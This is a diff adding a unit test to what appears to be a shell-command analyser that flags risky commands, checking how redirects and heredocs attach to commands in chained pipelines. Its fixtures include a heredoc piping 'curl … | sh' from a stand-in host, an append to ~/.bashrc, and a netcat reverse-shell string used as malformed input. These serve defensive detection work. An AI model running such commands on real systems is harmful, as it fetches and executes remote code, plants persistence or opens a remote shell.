@@ -189,6 +189,22 @@ test('same-call bookkeeping: downloaded then executed files are flagged', () => 
   assert.ok(!must(b, 'head').flags.includes('exec_downloaded'));
 });
 
+test('after `a &&` or `a |`, a redirect and its heredoc belong to the last command, as in bash (the parser gives them to the whole list)', () => {
+  const t = "cd /tmp && cat <<EOF | sh\ncurl -s http://x.test/p | sh\nEOF";
+  const a = run(t);
+  assert.deepEqual(must(a, 'cd').redirects, [], 'cd writes nothing');
+  assert.ok(must(a, 'sh').input_from.includes('cat'), JSON.stringify(a.commands.map((c) => [c.argv, c.input_from])));
+  assert.ok(a.commands.some((c) => c.argv[0] === 'curl'), 'the heredoc fed to sh is analysed');
+  const w = run("cd /tmp && echo 'x' >> ~/.bashrc");
+  assert.deepEqual(must(w, 'cd').redirects, []);
+  assert.deepEqual(must(w, 'echo').redirects, ['>>~/.bashrc']);
+  const h = run("mkdir -p d && cd d && cat > c.json <<'EOF'\n{\"k\": 1}\nEOF\nls");
+  assert.match(must(h, 'cat').text, /\{"k": 1\}/, 'the heredoc is part of cat\'s text');
+  const p = run('ls | tee out.txt > /dev/null');
+  assert.deepEqual(must(p, 'ls').redirects, []);
+  assert.deepEqual(must(p, 'tee').redirects, ['>/dev/null']);
+});
+
 test('malformed shell never throws: a parse-error note plus best-effort analysis', () => {
   for (const junk of ['execute[ls -la]', 'blocked', 'echo "unterminated', "bash -c 'nc -e sh h 1", '((((((', '$(', '`', '\u0000\u001b[2J\ufffd', 'if then fi done esac', "```bash\nls\n```"]) {
     const a = run(junk);
